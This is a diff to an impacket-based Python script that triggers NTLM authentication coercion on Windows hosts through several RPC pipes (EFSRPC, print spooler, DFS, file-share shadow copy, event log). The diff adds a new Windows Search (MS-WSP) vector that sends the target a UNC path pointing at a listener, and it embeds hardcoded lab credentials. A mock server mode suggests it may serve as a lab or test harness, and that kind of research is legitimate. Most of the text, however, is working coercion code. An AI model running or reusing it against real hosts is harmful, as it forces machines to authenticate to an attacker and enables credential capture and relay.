@@ -15,6 +15,7 @@ import threading
 from impacket import smbserver
 from impacket.dcerpc.v5 import dtypes, even, ndr, rprn, transport
 from impacket.dcerpc.v5.rpcrt import DCERPCServer
+from impacket.smbconnection import SMBConnection
 from impacket.uuid import uuidtup_to_bin
 
 EFSRPC = ('c681d488-d850-11d0-8c52-00c04fd90f7e', '1.0')
@@ -25,6 +26,7 @@ EVENTLOG = ('82273fdc-e32a-18c3-3f78-827929dc23ea', '0.0')
 PIPES = {'lsarpc': (EFSRPC, (4, 6)), 'spoolss': (SPOOLSS, (65,)), 'netdfs': (NETDFS, (13,)),
          'FssagentRpc': (FSSAGENT, (8,)), 'eventlog': (EVENTLOG, (9,))}
 ERROR_BAD_NETPATH = 0x35
+SEARCH = 'MsFteWds'
 
 
 def server(address, listener):
@@ -36,6 +38,12 @@ def server(address, listener):
                 pass
         return struct.pack('<L', ERROR_BAD_NETPATH)
 
+    def search(listening):
+        while True:
+            asking = listening.accept()[0]
+            answer(asking.recv(4096))
+            asking.send(struct.pack('<L', 0xC8))
+
     smb = smbserver.SimpleSMBServer(address, 445)
     smb.setSMB2Support(True)
     smb.setSMBChallenge('')
@@ -45,6 +53,9 @@ def server(address, listener):
         rpc.addCallbacks(interface, '\\PIPE\\' + pipe, {opnum: answer for opnum in opnums})
         rpc.start()
         smb.registerNamedPipe(pipe, ('127.0.0.1', rpc.getListenPort()))
+    listening = socket.create_server(('127.0.0.1', 0))
+    threading.Thread(target=search, args=(listening,), daemon=True).start()
+    smb.registerNamedPipe(SEARCH, listening.getsockname())
     smb.start()
 
 
@@ -87,6 +98,18 @@ def ask(dce, request):
     dce.disconnect()
 
 
+def ask_search(target, listener):
+    """CPMConnectIn with little but the path in it; MS-WSP 2.2.3.2."""
+    smb = SMBConnection(target, target)
+    smb.login('alice', 'Passw0rd')
+    tree = smb.connectTree('IPC$')
+    pipe = smb.openFile(tree, SEARCH)
+    smb.writeFile(tree, pipe, struct.pack('<4L', 0xC8, 0, 0, 0) + ('file:////' + listener + '/x\x00').encode('utf-16le'))
+    smb.readFile(tree, pipe, bytesToRead=16)
+    smb.closeFile(tree, pipe)
+    smb.logoff()
+
+
 def made(kind, **values):
     request = kind()
     for name, value in values.items():
@@ -109,6 +132,7 @@ def client(target, listener):
     notify = made(rprn.RpcRemoteFindFirstPrinterChangeNotificationEx, hPrinter=bytes(20), fdwFlags=0x100, fdwOptions=0,
                   pszLocalMachine='\\\\' + listener + '\x00', dwPrinterLocal=0, pOptions=dtypes.NULL)
     ask(bound(target, 'spoolss'), notify)
+    ask_search(target, listener)
 
 
 if sys.argv[1] == 'server':
